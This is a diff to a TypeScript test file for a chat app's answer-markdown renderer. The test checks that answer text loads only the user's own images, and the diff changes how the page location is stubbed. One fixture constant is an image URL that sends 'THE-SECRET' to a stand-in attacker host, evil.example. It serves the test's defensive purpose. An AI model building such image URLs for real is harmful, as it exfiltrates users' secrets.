@@ -1,7 +1,7 @@
 /** Which images of an answer the browser would load as soon as the text is drawn: the user's own files, and nothing else. */
 import { ChakraProvider } from '@chakra-ui/react';
 import { renderToStaticMarkup } from 'react-dom/server';
-import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { system } from '~/client/app/theme';
 import { AnswerMarkdown } from './answer-markdown';
 import { imageAddress } from './image-address';
@@ -10,8 +10,7 @@ const page = 'https://insight.example/chat/1';
 const file = '/objects/0f8fad5b-d9cb-469f-a165-70867728950e';
 const leak = 'remote-image?url=http%3A%2F%2Fevil.example%2Fp.png%3Fq%3DTHE-SECRET';
 
-beforeAll(() => void vi.stubGlobal('location', new URL(page)));
-afterAll(() => void vi.unstubAllGlobals());
+beforeEach(() => void vi.stubGlobal('location', new URL(page)));
 
 const drawn = (content: string) =>
   renderToStaticMarkup(
